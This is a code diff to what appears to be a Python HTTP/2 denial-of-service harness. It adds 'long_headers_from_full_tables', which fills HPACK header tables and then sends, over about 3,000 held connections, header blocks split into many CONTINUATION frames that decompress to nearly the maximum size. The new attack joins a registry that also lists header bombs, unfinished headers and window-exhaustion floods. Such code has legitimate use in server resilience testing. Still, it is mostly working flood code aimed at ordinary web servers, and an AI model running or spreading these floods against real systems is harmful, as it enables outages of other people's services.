@@ -99,6 +99,10 @@ class Line:
 Say = Callable[[Line], None]
 
 
+def nothing(line: Line) -> None:
+    """Says nothing further."""
+
+
 def flooded(target: str, greeting: bytes, say: Say, lines: int = 8) -> Answers:
     """Has something said on some connections again and again; closed ones are replaced."""
     answers: Answers = Counter()
@@ -129,9 +133,14 @@ def flooded(target: str, greeting: bytes, say: Say, lines: int = 8) -> Answers:
 
 
 def held(
-    target: str, first: Callable[[int], bytes], count: int, drip: bytes = b"", *, reads: bool = True
+    target: str,
+    first: Callable[[int], bytes],
+    count: int,
+    say: Say = nothing,
+    *,
+    reads: bool = True,
 ) -> Answers:
-    """Says something once on many connections, and then next to nothing."""
+    """Says something once on many connections, and then something else now and then."""
     answers: Answers = Counter()
     lines: list[Line] = []
     end_s = time.monotonic() + SECONDS
@@ -153,7 +162,8 @@ def held(
     for _ in _every(0.1, end_s):
         for line in lines:
             if not line.is_closed:
-                line.send(drip)
+                if not line.is_full:
+                    say(line)
                 line.turn()
     for line in lines:
         answers["closed" if line.is_closed else "open"] += 1
@@ -212,6 +222,28 @@ def unfinished_headers(target: str, count: int) -> Answers:
     part = bytes(16_000)
     first = frame(_HEADERS, 0, 1, part) + frame(_CONTINUATION, 0, 1, part)
     return held(target, lambda _: _GREETING + first, count)
+
+
+def long_headers_from_full_tables(target: str, count: int) -> Answers:
+    """Fills the tables of headers with the smallest there are, and refers to these again and again.
+
+    The blocks unpack to nearly the most, and come in as many parts as they may.
+    """
+    block = call(LIVE) + b"\xbe" * 800
+    size = len(block) // 15
+    *parts, end = (block[at : at + size] for at in range(0, len(block), size))
+    full = call(LIVE) + literal(b"x", b"", 0x40) * 124
+
+    def say(line: Line) -> None:
+        number, line.number = line.number + 2, line.number + 2
+        line.send(
+            frame(_HEADERS, _END_STREAM, number, parts[0]),
+            *(frame(_CONTINUATION, 0, number, part) for part in parts[1:]),
+            frame(_CONTINUATION, _END_HEADERS, number, end),
+        )
+
+    first = _GREETING + frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, full)
+    return held(target, lambda _: first, count, say)
 
 
 def unfinished_frames(target: str, count: int) -> Answers:
@@ -304,6 +336,7 @@ ATTACKS: Floods = {
     ),
     "windows without end": lambda t, key: repeated(t, frame(_WINDOW, 0, 0, b"\0\0\0\1")),
     "header bombs": lambda t, key: header_bombs(t),
+    "long headers from full tables": lambda t, key: long_headers_from_full_tables(t, 3_000),
     "unfinished headers": lambda t, key: unfinished_headers(t, 2_000),
     "unfinished frames": lambda t, key: unfinished_frames(t, 3_000),
     "no windows": lambda t, key: no_windows(t, LIVE, 120, 1_000),
